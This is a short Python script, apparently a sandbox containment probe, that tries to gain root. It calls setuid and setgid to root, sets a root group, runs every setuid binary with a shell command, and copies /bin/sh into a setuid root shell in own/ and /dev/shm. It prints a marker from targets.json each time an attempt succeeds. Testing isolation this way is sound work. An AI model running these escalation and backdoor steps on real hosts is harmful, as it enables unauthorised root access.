# Changes its user, and starts every program that would run as somebody else.
import glob
import json
import os
import stat
import subprocess

targets = json.load(open("targets.json"))
me = os.getuid()
for way in (os.setuid, os.setgid, os.seteuid, os.setegid):
    for who in (0, 1, 65534):
        try:
            way(who)
            if (os.getuid(), os.geteuid()) != (me, me):
                print(targets["success"])
        except OSError:
            pass
try:
    os.setgroups([0])
    print(targets["success"])
except OSError:
    pass
for path in (*glob.glob("/usr/bin/*"), *glob.glob("/usr/sbin/*"), *glob.glob("/usr/lib/*/*")):
    try:
        if not os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID):
            continue
        told = subprocess.run(
            [path, "-c", "id -u"], stdin=subprocess.DEVNULL, capture_output=True, timeout=0.3
        )
        if told.stdout.strip() == b"0" != str(me).encode():
            print(targets["success"])
    except (OSError, subprocess.SubprocessError):
        pass
os.mkdir("own")
for path in ("own/shell", "/dev/shm/shell"):
    try:
        with open("/bin/sh", "rb") as shell, open(path, "wb") as copy:
            copy.write(shell.read())
        os.chown(path, 0, 0)
        os.chmod(path, 0o6755)
        print(targets["success"])
    except OSError:
        pass
